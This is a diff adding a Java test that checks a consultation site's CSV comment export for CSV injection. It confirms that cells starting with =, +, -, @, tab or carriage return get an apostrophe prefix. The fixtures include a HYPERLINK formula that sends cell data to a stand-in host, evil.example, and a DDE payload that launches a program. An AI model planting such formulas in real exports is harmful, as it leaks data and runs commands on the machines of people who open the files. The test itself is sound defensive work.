@@ -236,6 +236,42 @@ class ExportsTest {
         assertThat(second.get("support_count")).isEqualTo("1");
     }
 
+    /** OWASP's CSV injection advice: a cell a spreadsheet would evaluate starts with an apostrophe instead. */
+    @Test
+    void cellsThatASpreadsheetWouldEvaluateAreExportedAsText() throws Exception {
+        String formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+        jdbc.sql("UPDATE comment SET body = :body, quote_exact = :quote WHERE id = :id")
+                .param("body", formula).param("quote", "\t=1+2").param("id", tricky).update();
+        jdbc.sql("UPDATE comment SET proposed_text = '-2+3', decision_reason = :reason WHERE id = :id")
+                .param("reason", "\r=cmd|' /C calc'!A0").param("id", proposal).update();
+        jdbc.sql("UPDATE account SET display_name = '@SUM(1+1)', affiliation = '+1+1' WHERE id = :id")
+                .param("id", amina).update();
+        jdbc.sql("UPDATE section SET title = '=1+1' WHERE title = 'Digital cooperation' AND consultation_id = "
+                + "(SELECT id FROM consultation WHERE slug = :slug)").param("slug", slug).update();
+
+        var result = mvc.get().uri("/c/{slug}/comments.csv", slug).exchange();
+        assertThat(result).hasStatusOk();
+        byte[] bytes = result.getResponse().getContentAsByteArray();
+        String csv = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
+        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(csv)).getRecords();
+        var first = rows.get(0);
+        assertThat(first.get("body")).isEqualTo("'" + formula);
+        assertThat(first.get("quote")).isEqualTo("'\t=1+2");
+        assertThat(first.get("author")).isEqualTo("'@SUM(1+1)");
+        assertThat(first.get("affiliation")).isEqualTo("'+1+1");
+        assertThat(first.get("section_title")).isEqualTo("'=1+1");
+        assertThat(rows.get(1).get("proposed_text")).isEqualTo("'-2+3");
+        assertThat(rows.get(1).get("decision_reason")).isEqualTo("'\r=cmd|' /C calc'!A0");
+        assertThat(first.get("id")).isEqualTo(String.valueOf(tricky));
+        for (var row : rows) {
+            for (String cell : row.values()) {
+                assertThat(cell).as("a cell a spreadsheet would evaluate").doesNotStartWith("=").doesNotStartWith("+")
+                        .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
+            }
+        }
+    }
+
     @Test
     void theJsonHasEveryFieldOfEveryPublishedComment() throws Exception {
         var result = mvc.get().uri("/c/{slug}/comments.json", slug).exchange();
